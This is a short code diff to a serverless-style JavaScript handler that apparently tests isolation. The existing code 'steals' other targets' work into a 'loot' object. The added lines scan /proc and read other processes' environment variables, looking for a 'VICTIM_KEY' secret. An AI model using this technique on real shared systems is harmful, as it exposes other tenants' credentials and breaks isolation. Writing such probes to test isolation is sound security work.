@@ -485,6 +485,13 @@ exports.handler = async (event) => {
   const loot = { stolen: [], answered: [], answers: [], errors: [] };
   const deadline = Date.now() + event.holdMs;
   await Promise.all(targets.flatMap((t) => [stealNext(t, deadline, loot), stealAssignment(t, deadline, loot)]));
+  // And the victim's environment, from any process this function's /proc shows.
+  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
+    try {
+      const environ = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');
+      if (environ.includes('VICTIM_KEY')) loot.stolen.push({ pid, environ });
+    } catch (e) {}
+  }
   const endpoint = await request('127.0.0.1', Number(new URL(process.env.AWS_ENDPOINT_URL).port), 'GET', '/', null, 3000);
   return { own, seen: seen.map((l) => l.port), tried: targets.map((t) => t.port), endpoint: endpoint.status || endpoint.error, loot };
 };
